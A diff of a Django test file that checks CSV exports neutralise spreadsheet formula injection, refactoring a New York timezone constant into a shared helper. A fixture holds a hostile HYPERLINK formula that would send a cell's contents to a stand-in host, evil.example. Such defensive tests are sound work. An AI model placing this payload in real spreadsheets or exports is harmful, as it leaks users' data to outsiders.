@@ -4,7 +4,6 @@ formula (OWASP "CSV Injection"), and numbers stay numbers."""
 import csv
 import datetime as dt
 import io
-from zoneinfo import ZoneInfo
 
 import pytest
 import time_machine
@@ -14,8 +13,8 @@ from django.utils import timezone
 from alma.csv_export import neutralise, safe_writer
 from tests.directory_factories import ready_provider
 from tests.factories import ProviderFactory
+from tests.helpers import NEW_YORK
 
-NY = ZoneInfo("America/New_York")
 HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
 
 
@@ -68,7 +67,7 @@ def test_publish_profiles_csv_neutralises_a_formula_in_a_providers_name():
 
 @pytest.mark.django_db
 def test_onboarding_report_csv_neutralises_a_formula_in_a_providers_name(capsys):
-    with time_machine.travel(dt.datetime(2026, 11, 20, 9, 0, tzinfo=NY), tick=False):
+    with time_machine.travel(dt.datetime(2026, 11, 20, 9, 0, tzinfo=NEW_YORK), tick=False):
         ProviderFactory(legal_name=HOSTILE_NAME)  # their General Onboarding email stays unsent
     call_command("onboarding_report", "--format", "csv", "--as-of", "2026-11-30")
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
